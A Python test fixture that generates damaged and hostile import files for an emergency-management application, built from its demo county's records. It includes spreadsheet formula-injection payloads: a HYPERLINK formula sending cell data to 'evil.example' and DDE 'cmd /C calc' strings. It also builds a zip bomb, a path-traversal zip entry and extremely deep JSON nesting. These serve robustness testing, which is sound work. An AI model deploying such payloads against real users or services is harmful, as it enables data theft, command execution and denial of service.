"""The damaged-file corpus: for every import kind, files as they arrive broken, absurd or
hostile, each made here from a sound file of the demo county.

``corpus(session, directory)`` writes the files and returns one ``Case`` per file: the
kind, the file, the options it is imported with and a name saying what is wrong with it.
A kind's sound file is taken from the demo county (its villages, lists, grids, zones,
shelters and typhoon); the damages are of three sorts:

- the file as bytes: empty, garbage, truncated, another format under the suffix, bad
  encodings, a zip bomb, a path that is a folder or missing;
- the table inside it (for every kind a table of a header and rows, written as CSV or
  Excel, and for map data also as GeoJSON properties): formulas, huge numbers, NaN and
  infinity, negative counts, an empty or repeated header, merged cells, repeated rows,
  missing and extra columns, control characters, very long text;
- the geometry of map data: nesting 100,000 deep, NaN coordinates, open and bow-tie rings,
  metres without a coordinate system, an unknown EPSG code, swapped axes, far away;
- the options: a coordinate system stated wrongly, another village, a code too long.

Cases known to fail the contract today are left out by name in ``KNOWN_FAILURES``.
"""

from __future__ import annotations

import csv
import io
import json
import random
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path
from typing import Any

import openpyxl
from openpyxl.utils.exceptions import IllegalCharacterError
from shapely.geometry import mapping
from sqlalchemy import select
from sqlalchemy.orm import Session

from models.areas import DangerZone, Division, Grid, Shelter

Row = list[Any]


@dataclass
class Table:
    """A title line (or None), a header and rows, as a spreadsheet holds them."""

    header: Row
    rows: list[Row]
    title: str | None = None
    merged: list[tuple[int, int, int, int]] = field(default_factory=list)  # r1, c1, r2, c2

    def copy(self) -> Table:
        return Table(list(self.header), [list(r) for r in self.rows], self.title, list(self.merged))

    def lines(self) -> list[Row]:
        return ([[self.title]] if self.title else []) + [self.header, *self.rows]


@dataclass(frozen=True)
class Case:
    kind: str
    name: str
    path: Path
    options: dict[str, Any] = field(default_factory=dict)

    @property
    def id(self) -> str:
        return f"{self.kind}:{self.name}"


@dataclass
class Sound:
    """A kind's sound table, its numeric and text columns, and (map data) its geometries."""

    kind: str
    table: Table
    numeric: list[int]
    text: list[int]
    required: list[int]
    options: dict[str, Any] = field(default_factory=dict)
    geometries: list[dict[str, Any]] | None = None  # GeoJSON geometries, one per row
    lonlat: tuple[int, int] | None = None  # the columns of a point kind's coordinates


# -- writing --------------------------------------------------------------------------


def write_xlsx(path: Path, table: Table) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Sheet1"
    for line in table.lines():
        ws.append(line)
    for r1, c1, r2, c2 in table.merged:
        ws.merge_cells(start_row=r1, start_column=c1, end_row=r2, end_column=c2)
    wb.save(path)
    return path


def csv_text(table: Table) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for line in table.lines():
        writer.writerow(["" if v is None else v for v in line])
    return out.getvalue()


def write_csv(path: Path, table: Table, encoding: str = "utf-8") -> Path:
    path.write_bytes(csv_text(table).encode(encoding))
    return path


def feature_collection(
    table: Table, geometries: list[dict[str, Any]], crs: Any = None
) -> dict[str, Any]:
    features = []
    for i, row in enumerate(table.rows):
        props = {str(h): v for h, v in zip(table.header, row, strict=False) if h not in (None, "")}
        geometry = geometries[i] if i < len(geometries) else geometries[-1]
        features.append({"type": "Feature", "geometry": geometry, "properties": props})
    document: dict[str, Any] = {"type": "FeatureCollection", "features": features}
    if crs is not None:
        document["crs"] = crs
    return document


def write_geojson(path: Path, document: Any) -> Path:
    path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    return path


# -- the sound files of the demo county -------------------------------------------------


def _phone(n: int) -> str:
    return f"139{n:08d}"


def sound_tables(session: Session, directory: Path) -> dict[str, Sound]:
    """Every kind's sound table, from the demo county's first village."""
    village = session.scalars(
        select(Division).where(Division.level == "village").order_by(Division.code)
    ).first()
    assert village is not None
    town = session.get(Division, village.parent_id)
    assert town is not None
    sounds: dict[str, Sound] = {}

    divisions = session.scalars(select(Division).order_by(Division.code)).all()
    sounds["divisions"] = Sound(
        "divisions",
        Table(["区划代码", "名称"], [[d.code, d.name] for d in divisions], "行政区划代码"),
        numeric=[],
        text=[1],
        required=[0, 1],
    )

    sounds["households"] = _households(session, directory, village.code)

    grids = session.scalars(select(Grid).where(Grid.village_id == village.id)).all()
    sounds["grids"] = Sound(
        "grids",
        Table(
            ["网格编码", "网格名称", "村代码", "责任人", "职务", "手机"],
            [
                [g.code, g.name, village.code, g.person_name, g.person_post, _phone(i)]
                for i, g in enumerate(grids)
            ],
        ),
        numeric=[],
        text=[1, 3],
        required=[0, 1, 2],
        geometries=[mapping(g.geometry) for g in grids],
    )

    zones = (
        session.scalars(
            select(DangerZone).where(DangerZone.village_id == village.id, DangerZone.is_point)
        ).all()
        or session.scalars(select(DangerZone).where(DangerZone.village_id == village.id)).all()
    )
    zone_rows = []
    zone_geometries = []
    for z in zones:
        geometry = z.geometry
        assert geometry is not None
        point = geometry.representative_point()
        zone_rows.append(
            [z.code, z.name, _kind_word(z.kind), village.code, z.location, point.x, point.y]
        )
        zone_geometries.append(mapping(geometry))
    sounds["danger-zones"] = Sound(
        "danger-zones",
        Table(["编码", "名称", "类别", "村代码", "位置", "经度", "纬度"], zone_rows),
        numeric=[5, 6],
        text=[1, 4],
        required=[0, 1, 2, 3],
        geometries=zone_geometries,
        lonlat=(5, 6),
    )

    shelters = session.scalars(select(Shelter).order_by(Shelter.id).limit(3)).all()
    shelter_rows = []
    shelter_geometries = []
    for i, s in enumerate(shelters):
        geometry = s.geometry
        assert geometry is not None
        village_code = session.get(Division, s.village_id).code  # type: ignore[union-attr]
        shelter_rows.append(
            [
                s.name,
                village_code,
                s.level,
                s.capacity,
                "有" if s.safety_certified else "无",
                s.manager_name,
                _phone(100 + i),
                geometry.x,
                geometry.y,
            ]
        )
        shelter_geometries.append(mapping(geometry))
    sounds["shelters"] = Sound(
        "shelters",
        Table(
            [
                "名称",
                "村代码",
                "级别",
                "容纳人数",
                "安全鉴定",
                "管理员",
                "管理员电话",
                "经度",
                "纬度",
            ],
            shelter_rows,
        ),
        numeric=[3, 7, 8],
        text=[0, 5],
        required=[0, 1],
        geometries=shelter_geometries,
        lonlat=(7, 8),
    )

    villages = session.scalars(
        select(Division).where(Division.parent_id == town.id).order_by(Division.code)
    ).all()
    sounds["boundaries"] = Sound(
        "boundaries",
        Table(["区划代码", "名称"], [[v.code, v.name] for v in villages if v.geom is not None]),
        numeric=[],
        text=[1],
        required=[0],
        geometries=[mapping(v.geometry) for v in villages if v.geom is not None],
    )

    sounds["typhoon"] = Sound(
        "typhoon",
        Table(
            ["时间", "经度", "纬度", "中心气压", "最大风速", "七级风圈半径", "十级风圈半径"],
            [
                ["2026-08-09 08:00", 123.95, 26.60, 935, 52, 350, 150],
                ["2026-08-09 14:00", 123.10, 27.25, 935, 52, 340, 150],
                ["2026-08-09 20:00", 122.30, 27.85, 940, 50, 330, 140],
                ["2026-08-10 02:00", 121.52, 28.30, 950, 45, 300, 120],
                ["2026-08-10 08:00", 121.05, 28.75, 965, 38, 260, 90],
            ],
        ),
        numeric=[1, 2, 3, 4, 5, 6],
        text=[0],
        required=[0, 1, 2],
        options={"code": "2699", "name": "损坏"},
    )

    sounds["units"] = Sound(
        "units",
        Table(
            ["单位名称", "简称", "值班电话", "联系人", "手机"],
            [
                ["县水利局", "水利局", "0576-86100220", "陈建国", _phone(200)],
                ["县气象局", "气象局", "0576-86100440", "王雨晴", _phone(201)],
                ["县交通运输局", "交通局", "0576-86100660", "李志强", _phone(202)],
                ["县消防救援大队", "消防大队", "0576-86100119", "", ""],
            ],
            "成员单位通讯录",
        ),
        numeric=[],
        text=[0, 1, 3],
        required=[0],
    )
    _plan_sounds(sounds)
    sounds.update(_supplies(session))
    sounds.update(_team_sounds(session))
    sounds.update(_item_class_sounds())
    return sounds


def _plan_sounds(sounds: dict[str, Sound]) -> None:
    """The plan register and a town plan's actions (the demo's XZ-01, neither drilled nor
    activated, so its content may be replaced)."""
    sounds["plans"] = Sound(
        "plans",
        Table(
            [
                "预案编号",
                "预案名称",
                "预案类别",
                "事件类型",
                "编制单位",
                "文号",
                "印发日期",
                "上级预案",
                "评估周期",
            ],
            [
                [
                    "SH-01",
                    "某企业危险化学品事故应急预案",
                    "企业",
                    "危险化学品",
                    "县应急管理局",
                    "企〔2025〕1号",
                    "2025-03-01",
                    "ZX-12",
                    3,
                ],
                [
                    "SH-02",
                    "某景区旅游突发事件应急预案",
                    "企业",
                    "其他",
                    "县交通运输局",
                    "景〔2025〕2号",
                    "2025-04-15",
                    "ZX-37",
                    3,
                ],
                [
                    "SH-03",
                    "某学校校园安全应急预案",
                    "企业",
                    "其他",
                    "",
                    "校〔2025〕3号",
                    "2025-05-20",
                    "ZX-38",
                    2,
                ],
                [
                    "SH-04",
                    "某码头水上安全应急预案",
                    "企业",
                    "海洋灾害",
                    "县交通运输局",
                    "",
                    "",
                    "SH-02",
                    "",
                ],
            ],
            "企事业单位应急预案目录",
        ),
        numeric=[8],
        text=[1, 5],
        required=[0, 1, 2],
    )
    sounds["plan-actions"] = Sound(
        "plan-actions",
        Table(
            ["响应级别", "启动条件", "任务分组", "任务内容", "责任单位", "时限"],
            [
                [
                    "Ⅳ级",
                    "预计24小时内出现暴雨",
                    "预警",
                    "向村（社区）发出预警叫应",
                    "县气象局",
                    "30分钟",
                ],
                ["Ⅳ级", "", "转移安置", "核对危险区人员名单", "县应急管理局", "2小时"],
                [
                    "Ⅲ级",
                    "预计12小时内出现大暴雨",
                    "转移安置",
                    "组织危险区人员转移",
                    "县应急管理局",
                    "4小时",
                ],
                ["Ⅱ级", "", "抢险救援", "抢险队伍驻村待命", "县消防救援大队", "1天"],
            ],
            "防汛防台响应措施",
        ),
        numeric=[],
        text=[1, 3],
        required=[0, 3],
        options={"plan": "XZ-01"},
    )
    _WRONG_OPTIONS["plan-actions"] = {
        "no-plan-named": {"plan": None},
        "no-such-plan": {"plan": "NONE-99"},
        "plan-code-too-long": {"plan": "Z" * 400},
        "a-drilled-plan": {"plan": "ZX-01"},
    }


def _team_sounds(session: Session) -> dict[str, Sound]:
    from tests.models.imports.damaged_teams import team_sounds

    return team_sounds(session)


def _kind_word(code: str) -> str:
    from models.imports.gis.columns import _DANGER_WORDS

    return _DANGER_WORDS.get(code, (code,))[0]


def _households(session: Session, directory: Path, village_code: str) -> Sound:
    """The village's list as the console exports it, unmasked."""
    from ui.printing.registry import Format, document

    path = directory / "sound-households.xlsx"
    document("households", Format.EXCEL).make(
        session=session, path=path, village=village_code, unmasked=True, year=None, template=False
    )
    ws = openpyxl.load_workbook(path).active
    assert ws is not None
    lines = [list(r) for r in ws.iter_rows(values_only=True)]
    header = lines[1]
    numeric = [header.index(h) for h in ("经度", "纬度", "居住人数", "老人", "儿童")]
    text = [header.index(h) for h in ("户主姓名", "危险区（点）名称", "位置")]
    required = [header.index(h) for h in ("户主姓名", "居住人数")]
    return Sound(
        "households",
        Table(header, lines[2:], str(lines[0][0])),
        numeric=numeric,
        text=text,
        required=required,
        options={"village_code": village_code},
    )


# -- damages to the table --------------------------------------------------------------

TableDamage = Callable[[Sound], Table]


def _each(sound: Sound, columns: list[int], value: Any) -> Table:
    table = sound.table.copy()
    for row in table.rows:
        for c in columns:
            if c < len(row):
                row[c] = value
    return table


def _first_row(sound: Sound, columns: list[int], value: Any) -> Table:
    table = sound.table.copy()
    for c in columns:
        table.rows[0][c] = value
    return table


def _numbers(value: Any) -> TableDamage:
    return lambda s: _first_row(s, s.numeric or s.text, value)


def _texts(value: Any) -> TableDamage:
    return lambda s: _first_row(s, s.text, value)


def _header(change: Callable[[Row], Row]) -> TableDamage:
    def damage(sound: Sound) -> Table:
        table = sound.table.copy()
        table.header = change(list(table.header))
        return table

    return damage


def _drop_column(which: int) -> TableDamage:
    def damage(sound: Sound) -> Table:
        c = sound.required[which % len(sound.required)]
        table = sound.table.copy()
        table.header.pop(c)
        for row in table.rows:
            row.pop(c)
        return table

    return damage


def _extra_columns(sound: Sound) -> Table:
    table = sound.table.copy()
    table.header += ["备用1", "Unknown", "说明（旧）"]
    for i, row in enumerate(table.rows):
        row += [i, "x" * 5, None]
    return table


def _repeated_rows(sound: Sound) -> Table:
    table = sound.table.copy()
    table.rows = table.rows + [list(table.rows[0]) for _ in range(30)]
    return table


def _filled_down(sound: Sound) -> Table:
    table = sound.table.copy()
    for row in table.rows:
        for c in sound.required:
            row[c] = table.rows[0][c]
    return table


def _merged(sound: Sound) -> Table:
    table = sound.table.copy()
    first_data = (2 if table.title else 1) + 1
    column = sound.required[0] + 1
    last = first_data + min(3, len(table.rows) - 1)
    table.merged.append((first_data, column, last, column))
    for row in table.rows[1 : last - first_data + 1]:
        row[column - 1] = None
    return table


def _merged_header(sound: Sound) -> Table:
    table = sound.table.copy()
    row = 2 if table.title else 1
    table.merged.append((row, 1, row, 2))
    table.header[1] = None
    return table


def _blank_lines(sound: Sound) -> Table:
    table = sound.table.copy()
    rows: list[Row] = []
    for row in table.rows:
        rows += [row, [None] * len(row), [" "] * len(row)]
    table.rows = rows
    return table


def _swap_columns(sound: Sound) -> Table:
    table = sound.table.copy()
    a, b = sound.required[0], (sound.numeric or sound.text)[-1]
    for row in table.rows:
        row[a], row[b] = row[b], row[a]
    return table


def _ragged(sound: Sound) -> Table:
    table = sound.table.copy()
    table.rows[0] = table.rows[0][:1]
    table.rows[-1] = table.rows[-1] + ["多余"] * 40
    return table


def _wide(sound: Sound) -> Table:
    table = sound.table.copy()
    table.header += [f"列{i}" for i in range(400)]
    for row in table.rows:
        row += [i for i in range(400)]
    return table


def _no_rows(sound: Sound) -> Table:
    table = sound.table.copy()
    table.rows = []
    return table


def _only_title(sound: Sound) -> Table:
    return Table([sound.table.title or "标题"], [])


def _shuffled(sound: Sound) -> Table:
    table = sound.table.copy()
    order = list(range(len(table.header)))
    random.Random(7).shuffle(order)
    table.header = [table.header[i] for i in order]
    table.rows = [[row[i] if i < len(row) else None for i in order] for row in table.rows]
    return table


def _full_width(sound: Sound) -> Table:
    table = sound.table.copy()
    fw = str.maketrans("0123456789.", "０１２３４５６７８９．")
    for c in sound.numeric or sound.required:
        table.rows[0][c] = str(table.rows[0][c]).translate(fw)
    return table


TABLE_DAMAGES: dict[str, TableDamage] = {
    "formula-hyperlink": _texts('=HYPERLINK("http://evil.example/?"&A1,"点我")'),
    "formula-dde": _texts("=cmd|' /C calc'!A0"),
    "formula-plus-at": _texts("@SUM(1+1)*cmd|' /C calc'!A0"),
    "huge-1e308": _numbers(1e308),
    "huge-23-digits": _numbers(10**22 + 7),
    "huge-text-digits": _numbers("9" * 40),
    "nan": _numbers("NaN"),
    "infinity": _numbers("inf"),
    "minus-infinity": _numbers("-Infinity"),
    "negative": _numbers(-5),
    "zero": _numbers(0),
    "fraction": _numbers(2.5),
    "thousands-separators": _numbers("1,234,567"),
    "full-width-digits": _full_width,
    "words-for-numbers": _numbers("三十"),
    "empty-header": _header(lambda h: [None] * len(h)),
    "duplicate-header": _header(lambda h: [h[0], h[0], *h[2:]]),
    "header-spaces": _header(lambda h: [f"  {x}\n" if x else x for x in h]),
    "merged-cells": _merged,
    "merged-header": _merged_header,
    "repeated-rows": _repeated_rows,
    "filled-down": _filled_down,
    "missing-column": _drop_column(0),
    "missing-second-column": _drop_column(1),
    "extra-columns": _extra_columns,
    "shuffled-columns": _shuffled,
    "swapped-values": _swap_columns,
    "ragged-rows": _ragged,
    "400-columns": _wide,
    "header-only": _no_rows,
    "title-only": _only_title,
    "blank-lines": _blank_lines,
    "whitespace-cells": lambda s: _each(s, s.required, "   "),
    "empty-cells": lambda s: _each(s, s.required, None),
    "control-characters": _texts("名\x00称\x07\x1b[31m"),
    "nul-only": _texts("\x00"),
    "long-text": _texts("长" * 5000),
    "emoji-and-rtl": _texts("🌀‮台风‬\ufeff"),
    "lone-surrogate-like": _texts("\ufffd\ufffe名称"),
}
"""Damages to a sound table; each is written as Excel and, for some, as CSV too."""

CSV_TOO = ("formula-dde", "huge-1e308", "nan", "duplicate-header", "control-characters")


# -- damages to the bytes --------------------------------------------------------------


def _garbage(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


def _zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def byte_damages(sound: Sound, xlsx: bytes) -> Iterator[tuple[str, str, bytes]]:
    """(name, suffix, bytes) of files broken as files."""
    text = csv_text(sound.table)
    yield "zero-bytes", ".xlsx", b""
    yield "zero-bytes-csv", ".csv", b""
    yield "only-newlines", ".csv", b"\r\n\n\r\n"
    yield "garbage", ".xlsx", _garbage(4096, 1)
    yield "garbage-csv", ".csv", _garbage(4096, 2)
    yield "garbage-xls", ".xls", _garbage(4096, 3)
    yield "ole-header-garbage", ".xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _garbage(2048, 4)
    yield "truncated-xlsx", ".xlsx", xlsx[: len(xlsx) // 2]
    yield "truncated-xlsx-head", ".xlsx", xlsx[:40]
    yield "truncated-csv", ".csv", text.encode("utf-8")[: len(text.encode("utf-8")) // 2 + 1]
    yield "xlsx-named-csv", ".csv", xlsx
    yield "csv-named-xlsx", ".xlsx", text.encode("utf-8")
    yield "gbk", ".csv", text.encode("gbk", "replace")
    yield "gb18030-named-txt", ".txt", text.encode("gb18030")
    yield "utf16-bom", ".csv", text.encode("utf-16")
    yield "utf16-le-no-bom", ".csv", text.encode("utf-16-le")
    yield "utf8-bom", ".csv", b"\xef\xbb\xbf" + text.encode("utf-8")
    yield "big5", ".csv", text.encode("big5", "replace")
    yield "latin1-mojibake", ".csv", text.encode("utf-8").decode("latin-1").encode("utf-8")
    yield "mixed-encodings", ".csv", text.encode("utf-8") + text.encode("gbk", "replace")
    yield (
        "html-named-xls",
        ".xls",
        ("<html><body><table><tr><td>" + "</td><td>".join(map(str, sound.table.header))).encode()
        + b"</td></tr></table></body></html>",
    )
    yield "pdf-named-xlsx", ".xlsx", b"%PDF-1.4\n" + _garbage(1024, 5)
    yield "zip-not-xlsx", ".xlsx", _zip_of({"readme.txt": b"hello"})
    yield "xlsx-without-sheets", ".xlsx", _drop_members(xlsx, "xl/worksheets/")
    yield "xlsx-bad-xml", ".xlsx", _replace_member(xlsx, "xl/worksheets/sheet1.xml", b"<x><y>")
    yield "xlsx-huge-dimension", ".xlsx", _dimension(xlsx, "A1:ZZ9999")
    yield "nul-bytes-csv", ".csv", text.encode("utf-8").replace(b",", b"\x00,")
    yield "semicolons", ".csv", text.replace(",", ";").encode("utf-8")
    yield "tabs-named-csv", ".csv", text.replace(",", "\t").encode("utf-8")
    yield "unclosed-quote", ".csv", ('"' + text).encode("utf-8")
    yield "cr-only-lines", ".csv", text.replace("\n", "\r").encode("utf-8")


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _drop_members(data: bytes, prefix: str) -> bytes:
    return _zip_of({k: v for k, v in _members(data).items() if not k.startswith(prefix)})


def _replace_member(data: bytes, name: str, content: bytes) -> bytes:
    return _zip_of({**_members(data), name: content})


def _dimension(data: bytes, ref: str) -> bytes:
    members = _members(data)
    sheet = members["xl/worksheets/sheet1.xml"].decode("utf-8")
    import re

    sheet = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{ref}"', sheet)
    return _zip_of({**members, "xl/worksheets/sheet1.xml": sheet.encode("utf-8")})


# -- damages to map data -------------------------------------------------------------


def _nested(depth: int) -> str:
    return (
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":{"type":"Polygon","coordinates":'
        + "[" * depth
        + "]" * depth
        + "}}]}"
    )


def _ring(*points: tuple[float, float]) -> dict[str, Any]:
    return {"type": "Polygon", "coordinates": [[list(p) for p in points]]}


def geometry_damages(sound: Sound) -> Iterator[tuple[str, str, bytes | Any]]:
    """(name, suffix, bytes or a GeoJSON document) of map data broken as map data."""
    assert sound.geometries is not None
    table, geometries = sound.table, sound.geometries
    x, y = _a_point(geometries[0])
    polygonal = sound.kind in ("boundaries", "grids", "danger-zones")

    def with_geometry(geometry: Any, rows: int = 1) -> dict[str, Any]:
        t = table.copy()
        t.rows = t.rows[:rows]
        return feature_collection(t, [geometry])

    yield "nested-100000", ".geojson", _nested(100_000).encode()
    yield "nested-2000", ".geojson", _nested(2000).encode()
    yield (
        "nested-geometry-collection",
        ".geojson",
        json.dumps(with_geometry(_deep_collection(200))).encode(),
    )
    yield "not-json", ".geojson", b'{"type": "FeatureCollection", "features": [,,]'
    yield "json-array", ".geojson", b"[1, 2, 3]"
    yield "json-string", ".json", b'"FeatureCollection"'
    yield "features-not-a-list", ".geojson", {"type": "FeatureCollection", "features": {"a": 1}}
    yield "no-features", ".geojson", {"type": "FeatureCollection", "features": []}
    yield "null-geometry", ".geojson", with_geometry(None, rows=len(table.rows))
    yield "geometry-a-string", ".geojson", with_geometry("POINT (121 28)")
    yield "unknown-type", ".geojson", with_geometry({"type": "Hexagon", "coordinates": [1, 2]})
    yield (
        "coordinates-strings",
        ".geojson",
        with_geometry({"type": "Point", "coordinates": ["121.3", "二十八"]}),
    )
    yield "coordinates-empty", ".geojson", with_geometry({"type": "Polygon", "coordinates": []})
    yield (
        "coordinates-nan",
        ".geojson",
        with_geometry(
            _ring((x, y), (float("nan"), y), (x, float("nan")), (x, y))
            if polygonal
            else {"type": "Point", "coordinates": [float("nan"), y]}
        ),
    )
    yield (
        "coordinates-infinity",
        ".geojson",
        with_geometry(
            _ring((x, y), (float("inf"), y), (x, y + 0.01), (x, y))
            if polygonal
            else {"type": "Point", "coordinates": [x, float("inf")]}
        ),
    )
    yield (
        "coordinates-1e308",
        ".geojson",
        with_geometry(
            _ring((x, y), (1e308, y), (x, 1e308), (x, y))
            if polygonal
            else {"type": "Point", "coordinates": [1e308, -1e308]}
        ),
    )
    yield "open-ring", ".geojson", with_geometry(_ring((x, y), (x + 0.01, y), (x + 0.01, y + 0.01)))
    yield "two-point-ring", ".geojson", with_geometry(_ring((x, y), (x + 0.01, y)))
    yield (
        "bow-tie",
        ".geojson",
        with_geometry(_ring((x, y), (x + 0.01, y + 0.01), (x + 0.01, y), (x, y + 0.01), (x, y))),
    )
    yield (
        "zero-area",
        ".geojson",
        with_geometry(_ring((x, y), (x + 0.01, y), (x + 0.02, y), (x, y))),
    )
    yield (
        "metres-without-crs",
        ".geojson",
        with_geometry(
            {"type": "Point", "coordinates": [40_500_000.0, 3_130_000.0]}
            if not polygonal
            else _ring(
                (500_000, 3_130_000),
                (501_000, 3_130_000),
                (501_000, 3_131_000),
                (500_000, 3_130_000),
            )
        ),
    )
    yield (
        "unknown-epsg",
        ".geojson",
        feature_collection(
            table, geometries, {"type": "name", "properties": {"name": "EPSG:999999"}}
        ),
    )
    yield (
        "garbage-crs",
        ".geojson",
        feature_collection(table, geometries, {"type": "name", "properties": {"name": ["", {}]}}),
    )
    yield "swapped-axes", ".geojson", with_geometry(_swap(geometries[0]))
    yield "far-away", ".geojson", with_geometry(_moved(geometries[0], -5.0, 11.0))
    yield (
        "3d-coordinates",
        ".geojson",
        with_geometry({"type": "Point", "coordinates": [x, y, 12.5, 3]}),
    )
    yield (
        "geometry-collection",
        ".geojson",
        with_geometry({"type": "GeometryCollection", "geometries": [geometries[0], geometries[0]]}),
    )
    yield (
        "properties-nested",
        ".geojson",
        {
            "type": "FeatureCollection",
            "features": [
                {
                    "type": "Feature",
                    "geometry": geometries[0],
                    "properties": {
                        str(h): [v, {"v": v}]
                        for h, v in zip(table.header, table.rows[0], strict=False)
                    },
                }
            ],
        },
    )
    yield "many-vertices", ".geojson", with_geometry(_many_vertices(x, y, 20_000))
    yield (
        "wrong-geometry-kind",
        ".geojson",
        with_geometry({"type": "LineString", "coordinates": [[x, y], [x + 0.01, y + 0.01]]}),
    )
    if polygonal:
        yield "holes-of-different-lengths", ".geojson", with_geometry(_holes(x, y))
    yield "shapefile-zip-truncated", ".zip", _zip_of({"a.shp": b"\x00\x00\x27\x0a" + b"\x00" * 60})
    yield "zip-without-shapefile", ".zip", _zip_of({"a.txt": b"nothing"})
    yield "zip-bomb", ".zip", _zip_bomb()
    yield "zip-in-zip", ".zip", _zip_of({"inner.zip": _zip_of({"a.txt": b"x"})})
    yield (
        "zip-path-traversal",
        ".zip",
        _zip_of({"../../evil.geojson": json.dumps(feature_collection(table, geometries)).encode()}),
    )
    yield "loose-shp-garbage", ".shp", _garbage(2048, 9)
    yield (
        "prj-garbage-zip",
        ".zip",
        _zip_of({"a.prj": b"GEOGCS[garbage", "a.shp": b"", "a.dbf": b""}),
    )


@lru_cache(maxsize=1)
def _zip_bomb() -> bytes:
    """200 MB of spaces in a GeoJSON member of a 200 KB zip."""
    return _zip_of({"a.geojson": b" " * (200 * 1024 * 1024)})


def _a_point(geometry: dict[str, Any]) -> tuple[float, float]:
    coords: Any = geometry["coordinates"]
    while isinstance(coords[0], list | tuple):
        coords = coords[0]
    return float(coords[0]), float(coords[1])


def _map_coords(
    geometry: dict[str, Any], f: Callable[[list[float]], list[float]]
) -> dict[str, Any]:
    def walk(c: Any) -> Any:
        if c and isinstance(c[0], list | tuple):
            return [walk(x) for x in c]
        return f(list(c))

    return {
        "type": geometry["type"],
        "coordinates": walk(json.loads(json.dumps(geometry["coordinates"]))),
    }


def _swap(geometry: dict[str, Any]) -> dict[str, Any]:
    return _map_coords(geometry, lambda p: [p[1], p[0]])


def _moved(geometry: dict[str, Any], dx: float, dy: float) -> dict[str, Any]:
    return _map_coords(geometry, lambda p: [p[0] + dx, p[1] + dy])


def _deep_collection(depth: int) -> dict[str, Any]:
    geometry: dict[str, Any] = {"type": "Point", "coordinates": [121.3, 28.3]}
    for _ in range(depth):
        geometry = {"type": "GeometryCollection", "geometries": [geometry]}
    return geometry


def _many_vertices(x: float, y: float, n: int) -> dict[str, Any]:
    import math

    ring = [
        [x + 0.002 * math.cos(2 * math.pi * i / n), y + 0.002 * math.sin(2 * math.pi * i / n)]
        for i in range(n)
    ]
    return {"type": "Polygon", "coordinates": [[*ring, ring[0]]]}


def _holes(x: float, y: float) -> dict[str, Any]:
    outer = [[x, y], [x + 0.01, y], [x + 0.01, y + 0.01], [x, y + 0.01], [x, y]]
    hole1 = [
        [x + 0.001, y + 0.001],
        [x + 0.002, y + 0.001],
        [x + 0.002, y + 0.002],
        [x + 0.001, y + 0.001],
    ]
    hole2 = [
        [x + 0.005, y + 0.005],
        [x + 0.007, y + 0.005],
        [x + 0.008, y + 0.006],
        [x + 0.007, y + 0.007],
        [x + 0.005, y + 0.005],
    ]
    return {"type": "Polygon", "coordinates": [outer, hole1, hole2]}


# -- the corpus ------------------------------------------------------------------------

KNOWN_FAILURES: dict[str, str] = {}
"""Cases left out because the kind does not keep the contract yet, with why; each joins the
corpus when its kind is fixed."""


def corpus(session: Session, directory: Path) -> list[Case]:
    """Every damaged file of every kind, written under ``directory``."""
    cases: list[Case] = []
    for sound in sound_tables(session, directory).values():
        folder = directory / sound.kind
        folder.mkdir()
        cases += _kind_corpus(sound, folder)
    return [case for case in cases if case.id not in KNOWN_FAILURES]


def _kind_corpus(sound: Sound, folder: Path) -> list[Case]:
    kind = sound.kind
    cases: list[Case] = []

    def add(name: str, suffix: str, content: bytes | Any, **options: Any) -> None:
        path = folder / f"{name}{suffix}"
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            write_geojson(path, content)
        cases.append(Case(kind, name, path, {**sound.options, **options}))

    write_xlsx(folder / "sound.xlsx", sound.table)
    cases.append(Case(kind, "sound", folder / "sound.xlsx", dict(sound.options)))
    xlsx = (folder / "sound.xlsx").read_bytes()
    for name, suffix, data in byte_damages(sound, xlsx):
        add(name, suffix, data)
    for name, damage in TABLE_DAMAGES.items():
        table = damage(sound)
        try:
            path = write_xlsx(folder / f"{name}.xlsx", table)
        except IllegalCharacterError:  # Excel holds no control characters: a CSV does
            path = write_csv(folder / f"{name}.csv", table)
        cases.append(Case(kind, name, path, dict(sound.options)))
        if name in CSV_TOO and path.suffix != ".csv":
            path = write_csv(folder / f"{name}.csv", table)
            cases.append(Case(kind, f"{name}-csv", path, dict(sound.options)))
        if sound.geometries is not None and name in GEOJSON_TOO:
            add(f"{name}-geojson", ".geojson", feature_collection(table, sound.geometries))
    if sound.geometries is not None:
        add("sound-geojson", ".geojson", feature_collection(sound.table, sound.geometries))
        for name, suffix, content in geometry_damages(sound):
            add(name, suffix, content)
        sound_file = feature_collection(sound.table, sound.geometries)
        add("stated-bd09", ".geojson", sound_file, crs="bd09")  # the wrong one stated
        add("stated-gauss-kruger", ".geojson", sound_file, crs="EPSG:4549")
    for name, options in _WRONG_OPTIONS.get(kind, {}).items():
        cases.append(Case(kind, name, folder / "sound.xlsx", {**sound.options, **options}))
    cases.append(Case(kind, "missing-file", folder / "missing.xlsx", dict(sound.options)))
    (folder / "a-folder.xlsx").mkdir()
    cases.append(Case(kind, "a-folder", folder / "a-folder.xlsx", dict(sound.options)))
    return cases


_WRONG_OPTIONS: dict[str, dict[str, dict[str, Any]]] = {
    "households": {
        "another-village": {"village_code": "331081001002"},
        "no-such-village": {"village_code": "9" * 40},
        "stated-gcj02": {"crs": "gcj02"},
        "last-year": {"year": 2000},
    },
    "typhoon": {
        "code-too-long": {"code": "2" * 40},
        "name-too-long": {"name": "台" * 100},
        "existing-code": {"code": "2606"},
    },
}
"""A sound file imported with options that do not fit it."""

GEOJSON_TOO = (
    "formula-dde",
    "huge-1e308",
    "huge-23-digits",
    "nan",
    "negative",
    "empty-header",
    "repeated-rows",
    "missing-column",
    "extra-columns",
    "control-characters",
    "long-text",
)


